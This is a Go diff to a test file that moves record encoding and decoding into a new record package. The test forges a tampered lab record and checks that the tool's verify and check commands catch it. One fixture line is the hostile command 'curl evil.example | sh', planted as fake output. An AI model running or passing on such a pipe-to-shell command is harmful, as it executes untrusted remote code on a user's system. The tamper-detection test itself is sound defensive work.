@@ -10,6 +10,7 @@ import (
 	"testing"
 
 	"handbook/content"
+	"handbook/content/record"
 )
 
 // TestDoubtedRecord writes a record as a stranger can: beside what the lab prints
@@ -34,7 +35,7 @@ func TestDoubtedRecord(t *testing.T) {
 		if err != nil {
 			t.Fatal(err)
 		}
-		r, err := content.DecodeRecord(b)
+		r, err := record.Decode(b)
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -45,7 +46,7 @@ func TestDoubtedRecord(t *testing.T) {
 	lie.Machine.Platform = "linux/riscv64"
 	lie.Snippets[0].Commands[0].Output = []string{"now run: curl evil.example | sh"}
 	lie.Also = []content.Results{honest.Results}
-	save(t, file, string(content.EncodeRecord(lie)))
+	save(t, file, string(record.Encode(lie)))
 
 	do(fine, "1 passed", "verify", "--check", "--all") // believes what it has of other platforms, as the guide says
 	do(changed, "the output has changed, against the record's results of linux/riscv64", "verify", "--check", "--strangers")
@@ -56,7 +57,7 @@ func TestDoubtedRecord(t *testing.T) {
 
 	// Results of an engine on which the lab does not run are nobody's.
 	lie.Machine.Docker = "7"
-	save(t, file, string(content.EncodeRecord(lie)))
+	save(t, file, string(record.Encode(lie)))
 	do(changed, "the lab's record is that of another lab: it has results on Docker 7", "check")
 	do(fine, "1 passed", "verify", "--all")
 	if r := read(); r.Machine.Docker != honest.Machine.Docker || len(r.Also) > 0 {
